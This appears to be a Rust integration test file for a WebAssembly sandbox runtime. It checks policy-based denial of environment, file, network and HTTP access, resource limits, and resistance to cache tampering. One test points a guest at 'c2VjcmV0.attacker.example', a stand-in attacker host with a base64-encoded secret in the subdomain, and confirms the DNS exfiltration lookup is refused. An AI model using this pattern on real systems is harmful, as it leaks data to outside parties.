//! `gridreg run` end to end: the real binary runs the example guests under policies that deny
//! their capability (refused, with the import, class and rule named) and that allow it (they
//! work, against a TCP listener and an HTTP server this test starts on 127.0.0.1), and under
//! time, fuel and memory limits.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn fixture(name: &str) -> String {
    format!(
        "{}/../examples/wasm/{name}.wasm",
        env!("CARGO_MANIFEST_DIR")
    )
}

/// One cache shared by the tests in this file, so each fixture is compiled once per engine setting.
fn shared_cache() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("gridreg-run-cache")
}

fn gridreg(args: &[&str], cache: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_gridreg"))
        .args(args)
        .env("GRIDREG_CACHE_DIR", cache)
        .env("NO_COLOR", "1")
        // Must not reach the guest: nothing is inherited.
        .env("GRIDREG_TEST_SECRET", "leaked")
        .output()
        .unwrap()
}

fn run(args: &[&str]) -> Output {
    gridreg(args, &shared_cache())
}

fn text(o: &[u8]) -> String {
    String::from_utf8_lossy(o).into_owned()
}

fn code(o: &Output) -> i32 {
    o.status.code().unwrap_or(-1)
}

/// A policy allowing everything a test guest needs except the classes in `deny`.
fn policy(dir: &Path, deny: &[&str]) -> String {
    let all = [
        "stdio",
        "environment",
        "exit",
        "clocks",
        "random",
        "io",
        "filesystem",
        "network",
        "http-outgoing",
    ];
    let allow: Vec<String> = all
        .iter()
        .filter(|c| !deny.contains(c))
        .map(|c| format!("{c:?}"))
        .collect();
    let deny: Vec<String> = deny.iter().map(|c| format!("{c:?}")).collect();
    let path = dir.join(format!("policy-{}.toml", deny.join("-").replace('"', "")));
    std::fs::write(
        &path,
        format!(
            "[policy]\nname = \"test\"\n[capabilities]\nallow = [{}]\ndeny = [{}]\ndefault = \"deny\"\n",
            allow.join(", "),
            deny.join(", ")
        ),
    )
    .unwrap();
    path.to_str().unwrap().to_string()
}

#[track_caller]
fn assert_refused(o: &Output, import: &str, class: &str, rule: &str) {
    let err = text(&o.stderr);
    assert_eq!(code(o), 1, "stderr: {err}");
    assert!(err.contains(import), "expected {import} in: {err}");
    assert!(
        err.contains(&format!("(class {class})")),
        "expected class {class} in: {err}"
    );
    assert!(
        err.contains(&format!("[{rule}]")),
        "expected rule {rule} in: {err}"
    );
    assert!(o.stdout.is_empty(), "the guest must not have run");
}

#[test]
fn hello_runs_under_the_default_policy() {
    let o = run(&["run", &fixture("hello")]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "hello from gridreg\n");
}

#[test]
fn missing_file_and_core_module_are_input_errors() {
    let o = run(&["run", "no-such-file.wasm"]);
    assert_eq!(code(&o), 2);
    assert!(
        text(&o.stderr).contains("cannot read `no-such-file.wasm`"),
        "{}",
        text(&o.stderr)
    );
    // A reference is fetched from the registry; none listens on port 9.
    let o = run(&["run", "acme:auth@1.2.0", "--registry", "http://127.0.0.1:9"]);
    assert_eq!(code(&o), 2);
    assert!(
        text(&o.stderr).contains("cannot reach the registry at http://127.0.0.1:9"),
        "{}",
        text(&o.stderr)
    );
    let o = run(&["run", &fixture("p1-hello")]);
    assert_eq!(code(&o), 2);
    assert!(
        text(&o.stderr).contains("is a core module"),
        "{}",
        text(&o.stderr)
    );
    let o = run(&["run", &fixture("converter")]);
    assert_eq!(code(&o), 2);
    assert!(text(&o.stderr).contains("does not export wasi:cli/run"));
}

#[test]
fn environment_is_refused_or_granted_but_never_inherited() {
    let tmp = tempfile::tempdir().unwrap();
    let o = run(&["run", &fixture("env-reader")]);
    assert_refused(
        &o,
        "wasi:cli/environment@0.2.6",
        "environment",
        "capability-not-allowed",
    );
    let deny = policy(tmp.path(), &["environment"]);
    let o = run(&["run", &fixture("env-reader"), "--policy", &deny]);
    assert_refused(
        &o,
        "wasi:cli/environment@0.2.6",
        "environment",
        "capability-denied",
    );

    let allow = policy(tmp.path(), &[]);
    let o = run(&["run", &fixture("env-reader"), "--policy", &allow]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "GREETING is unset\n0 variables\n");

    let o = run(&[
        "run",
        &fixture("env-reader"),
        "--policy",
        &allow,
        "--env",
        "GREETING=hi there",
        "--env",
        "B=",
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(
        text(&o.stdout),
        "GREETING=hi there\n2 variables\nB=\nGREETING=hi there\n"
    );

    // A grant the policy forbids is an error even when the guest would not use it.
    let o = run(&[
        "run",
        &fixture("hello"),
        "--policy",
        "strict",
        "--env",
        "A=1",
    ]);
    assert_eq!(code(&o), 1);
    let err = text(&o.stderr);
    assert!(
        err.contains("--env asks for environment variables"),
        "{err}"
    );
    assert!(err.contains("[capability-denied]"), "{err}");
    assert!(o.stdout.is_empty());
}

#[test]
fn files_read_only_unless_rw() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(data.join("input.txt"), "line from the host\n").unwrap();
    let dir_ro = format!("{}::/data", data.display());
    let dir_rw = format!("{}::/data:rw", data.display());

    let deny = policy(tmp.path(), &["filesystem"]);
    let o = run(&["run", &fixture("file-reader"), "--policy", &deny]);
    assert_refused(&o, "wasi:filesystem/", "filesystem", "capability-denied");
    let o = run(&[
        "run",
        &fixture("hello"),
        "--policy",
        &deny,
        "--dir",
        &dir_ro,
    ]);
    assert_eq!(code(&o), 1);
    assert!(text(&o.stderr).contains("--dir asks for preopened directories"));

    let allow = policy(tmp.path(), &[]);
    // No preopen: nothing to read.
    let o = run(&["run", &fixture("file-reader"), "--policy", &allow]);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("cannot read /data/input.txt"));

    let o = run(&[
        "run",
        &fixture("file-reader"),
        "--policy",
        &allow,
        "--dir",
        &dir_ro,
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "line from the host\n");

    // Read-only: the write fails and the guest's own failure comes through. (The guest exits
    // with ExitCode 3, but WASI 0.2's `exit` carries only ok or error, which arrives as 1.)
    let o = run(&[
        "run",
        &fixture("file-reader"),
        "--policy",
        &allow,
        "--dir",
        &dir_ro,
        "--",
        "--write",
    ]);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("cannot write /data/output.txt"), "{err}");
    assert_eq!(text(&o.stdout), "line from the host\n");
    assert!(!data.join("output.txt").exists());

    let o = run(&[
        "run",
        &fixture("file-reader"),
        "--policy",
        &allow,
        "--dir",
        &dir_rw,
        "--",
        "--write",
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(
        std::fs::read_to_string(data.join("output.txt")).unwrap(),
        "written by file-reader\n"
    );
}

/// `gridreg run` of the tcp-client fixture under `policy`, granted `hosts`, connecting to `addr`.
fn tcp_client(policy: &str, hosts: &[&str], addr: &str) -> Output {
    let client = fixture("tcp-client");
    let mut args = vec!["run", &client, "--policy", policy];
    for h in hosts {
        args.extend(["--allow-host", h]);
    }
    args.extend(["--", addr]);
    run(&args)
}

/// Accepts connections, answers each `ping` line with `pong`, and counts them.
fn tcp_server() -> (u16, std::sync::mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut line = String::new();
            let _ = BufReader::new(&stream).read_line(&mut line);
            let _ = stream.write_all(b"pong\n");
            let _ = tx.send(line);
        }
    });
    (port, rx)
}

#[test]
fn tcp_only_to_allowed_hosts() {
    let tmp = tempfile::tempdir().unwrap();
    let (port, seen) = tcp_server();
    let addr = format!("127.0.0.1:{port}");

    let deny = policy(tmp.path(), &["network"]);
    let o = tcp_client(&deny, &[], &addr);
    assert_refused(&o, "wasi:sockets/", "network", "capability-denied");
    // Asking for a host under a policy that denies network (and outgoing HTTP) is an error.
    let deny_both = policy(tmp.path(), &["network", "http-outgoing"]);
    let o = run(&[
        "run",
        &fixture("hello"),
        "--policy",
        &deny_both,
        "--allow-host",
        &addr,
    ]);
    assert_eq!(code(&o), 1);
    assert!(text(&o.stderr).contains("--allow-host asks for network access"));

    let allow = policy(tmp.path(), &[]);
    // Allowed by the policy but not granted a host: the connection is refused by the host.
    let o = tcp_client(&allow, &[], &addr);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    // A different port on the same host is not covered.
    let other = format!("127.0.0.1:{}", if port == 65535 { 1 } else { port + 1 });
    let o = tcp_client(&allow, &[&other], &addr);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    assert!(
        seen.try_recv().is_err(),
        "no connection may have reached the server"
    );

    let o = tcp_client(&allow, &[&addr], &addr);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "pong\n");
    assert_eq!(seen.recv().unwrap(), "ping\n");
}

#[test]
fn name_lookups_only_for_allowed_names() {
    let tmp = tempfile::tempdir().unwrap();
    let (port, seen) = tcp_server();
    let allow = policy(tmp.path(), &[]);
    let by_name = format!("localhost:{port}");

    // The address "localhost" stands for is granted, but the name is not: the guest's lookup is
    // refused before any query is made (a lookup is traffic of its own), so it never connects.
    let o = tcp_client(&allow, &[&format!("127.0.0.1:{port}")], &by_name);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(
        err.contains("a name lookup of \"localhost\" was denied: not in the --allow-host list"),
        "{err}"
    );
    // A name that would carry data to whoever answers for its domain.
    let o = tcp_client(
        &allow,
        &[&by_name],
        &format!("c2VjcmV0.attacker.example:{port}"),
    );
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("a name lookup of \"c2VjcmV0.attacker.example\" was denied"),
        "{}",
        text(&o.stderr)
    );
    assert!(
        seen.try_recv().is_err(),
        "no connection may have reached the server"
    );

    // Granted by name: the lookup goes through and the connection reaches the server.
    let o = tcp_client(&allow, &[&by_name], &by_name);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "pong\n");
    assert_eq!(seen.recv().unwrap(), "ping\n");
    assert!(
        !text(&o.stderr).contains("name lookup"),
        "{}",
        text(&o.stderr)
    );
}

/// A one-response-per-connection HTTP/1.1 server that echoes the request path in its body.
fn http_server() -> (u16, std::sync::mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request_line = String::new();
            let _ = reader.read_line(&mut request_line);
            loop {
                let mut h = String::new();
                if reader.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                    break;
                }
            }
            let path = request_line.split(' ').nth(1).unwrap_or("").to_string();
            let body = format!("you asked for {path}\n");
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.flush();
            let mut rest = Vec::new();
            let _ = stream.set_read_timeout(Some(std::time::Duration::from_millis(100)));
            let _ = stream.read_to_end(&mut rest);
            let _ = tx.send(request_line);
        }
    });
    (port, rx)
}

#[test]
fn http_only_to_allowed_hosts() {
    let tmp = tempfile::tempdir().unwrap();
    let (port, seen) = http_server();
    let url = format!("http://127.0.0.1:{port}/hello");

    let deny = policy(tmp.path(), &["http-outgoing"]);
    let o = run(&[
        "run",
        &fixture("http-client"),
        "--policy",
        &deny,
        "--",
        &url,
    ]);
    assert_refused(
        &o,
        "wasi:http/outgoing-handler@0.2.12",
        "http-outgoing",
        "capability-denied",
    );

    let allow = policy(tmp.path(), &[]);
    // Not on the list: denied in the send hook, nothing reaches the server.
    let o = run(&[
        "run",
        &fixture("http-client"),
        "--policy",
        &allow,
        "--",
        &url,
    ]);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("HttpRequestDenied"), "{err}");
    assert!(
        err.contains(&format!("request to 127.0.0.1:{port} was denied")),
        "{err}"
    );
    assert!(seen.try_recv().is_err());

    let o = run(&[
        "run",
        &fixture("http-client"),
        "--policy",
        &allow,
        "--allow-host",
        &format!("127.0.0.1:{port}"),
        "--",
        &url,
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "status 200\nyou asked for /hello\n");
    assert!(seen.recv().unwrap().starts_with("GET /hello HTTP/1.1"));
}

#[test]
fn infinite_loop_is_stopped_by_timeout_and_fuel() {
    let tmp = tempfile::tempdir().unwrap();
    let allow = policy(tmp.path(), &[]);
    let start = std::time::Instant::now();
    let o = run(&[
        "run",
        &fixture("spin"),
        "--policy",
        &allow,
        "--timeout",
        "1s",
    ]);
    assert_eq!(code(&o), 124, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("stopped: time-out after 1s"),
        "{}",
        text(&o.stderr)
    );
    assert!(start.elapsed() < std::time::Duration::from_secs(20));

    let o = run(&[
        "run",
        &fixture("spin"),
        "--policy",
        &allow,
        "--fuel",
        "5000000",
    ]);
    assert_eq!(code(&o), 124, "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("used all of its fuel (5000000 units"));

    // Enough fuel for a short program is not a failure.
    let o = run(&["run", &fixture("hello"), "--fuel", "10000000"]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
}

#[test]
fn memory_hog_is_stopped_by_the_limit() {
    let tmp = tempfile::tempdir().unwrap();
    let allow = policy(tmp.path(), &[]);
    let o = run(&[
        "run",
        &fixture("hog"),
        "--policy",
        &allow,
        "--max-memory",
        "64MiB",
    ]);
    assert_eq!(code(&o), 125, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("stopped: memory limit reached"), "{err}");
    assert!(err.contains("--max-memory is 64.0 MiB"), "{err}");
}

#[test]
fn corrupt_cache_entry_is_rebuilt() {
    let cache = tempfile::tempdir().unwrap();
    let first = gridreg(&["run", &fixture("hello")], cache.path());
    assert_eq!(code(&first), 0);
    let entries: Vec<PathBuf> = std::fs::read_dir(cache.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(entries.len(), 1, "{entries:?}");
    let mut bytes = std::fs::read(&entries[0]).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x55;
    std::fs::write(&entries[0], &bytes).unwrap();

    let o = gridreg(&["run", &fixture("hello")], cache.path());
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "hello from gridreg\n");
    assert!(text(&o.stderr).contains("was corrupt and has been rebuilt"));
    assert!(text(&o.stderr).contains("hash mismatch"));

    let o = gridreg(&["run", &fixture("hello")], cache.path());
    assert_eq!(code(&o), 0);
    assert!(o.stderr.is_empty(), "{}", text(&o.stderr));
}

/// From the hostile-load issue: with write access to the cache directory (a shared or restored
/// CI cache), copying one component's entry over another's name made `gridreg run` execute the
/// other component's code. The entry knows what it was compiled for, so the copy is rebuilt.
#[test]
fn a_cache_entry_copied_over_another_components_name_is_not_run() {
    let cache = tempfile::tempdir().unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let allow = policy(tmp.path(), &[]);
    let entries = || -> Vec<PathBuf> {
        std::fs::read_dir(cache.path())
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect()
    };
    assert_eq!(code(&gridreg(&["run", &fixture("hello")], cache.path())), 0);
    let hello_entry = entries().pop().unwrap();
    let o = gridreg(
        &["run", &fixture("env-reader"), "--policy", &allow],
        cache.path(),
    );
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let reader_entry = entries().into_iter().find(|p| *p != hello_entry).unwrap();
    std::fs::copy(&reader_entry, &hello_entry).unwrap();

    let o = gridreg(&["run", &fixture("hello")], cache.path());
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "hello from gridreg\n");
    assert!(
        text(&o.stderr).contains("compiled for another component"),
        "{}",
        text(&o.stderr)
    );
}

#[test]
fn bad_flags_are_usage_errors() {
    for args in [
        vec!["--dir", "/tmp:/data"],
        vec!["--env", "NOEQUALS"],
        vec!["--allow-host", "a b"],
        vec!["--timeout", "soon"],
        vec!["--max-memory", "lots"],
    ] {
        let mut all = vec!["run", "HELLO"];
        all.extend(args.iter().copied());
        let hello = fixture("hello");
        all[1] = &hello;
        let o = run(&all);
        assert_eq!(code(&o), 2, "{args:?}: {}", text(&o.stderr));
    }
}

#[test]
fn guest_blocked_in_a_host_call_is_stopped_by_the_timeout() {
    let tmp = tempfile::tempdir().unwrap();
    let allow = policy(tmp.path(), &[]);
    // Accepts and then never answers, so the guest waits in a host read.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    let holder = std::thread::spawn(move || {
        let conn = listener.accept();
        std::thread::sleep(std::time::Duration::from_secs(8));
        drop(conn);
    });
    let start = std::time::Instant::now();
    let o = run(&[
        "run",
        &fixture("tcp-client"),
        "--policy",
        &allow,
        "--allow-host",
        &addr,
        "--timeout",
        "500ms",
        "--",
        &addr,
    ]);
    let took = start.elapsed();
    assert_eq!(code(&o), 124, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("stopped: time-out after 500ms"),
        "{}",
        text(&o.stderr)
    );
    assert!(took < std::time::Duration::from_secs(5), "{took:?}");
    drop(holder);
}

#[test]
fn policy_size_limit_is_checked_before_running() {
    let tmp = tempfile::tempdir().unwrap();
    let p = tmp.path().join("small.toml");
    std::fs::write(
        &p,
        "[policy]\nname = \"small\"\n[capabilities]\nallow = [\"stdio\", \"io\"]\n[limits]\nmax_size = \"1KiB\"\n",
    )
    .unwrap();
    let o = run(&["run", &fixture("hello"), "--policy", p.to_str().unwrap()]);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("[size-limit]"),
        "{}",
        text(&o.stderr)
    );
    assert!(o.stdout.is_empty());
}
